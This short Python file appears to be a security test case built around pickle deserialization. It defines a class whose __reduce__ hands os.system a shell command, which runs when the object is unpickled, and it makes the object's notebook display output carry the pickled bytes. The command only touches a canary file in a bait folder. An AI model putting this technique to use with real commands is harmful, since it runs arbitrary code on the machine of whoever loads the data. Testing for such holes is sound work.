# Objects that run code where they are unpickled.
# expect: ok
import pickle

from attack_kit import BAIT


class Payload:
    def __reduce__(self):
        import os

        return os.system, (f"touch {BAIT['open_folder']}/unpickled",)

    def _repr_mimebundle_(self, include=None, exclude=None):
        return {
            "text/plain": pickle.dumps(self, 0).decode("latin-1"),
            "application/x-pickle": pickle.dumps(self),
        }


payload = Payload()
table = [pickle.dumps(payload)]
payload
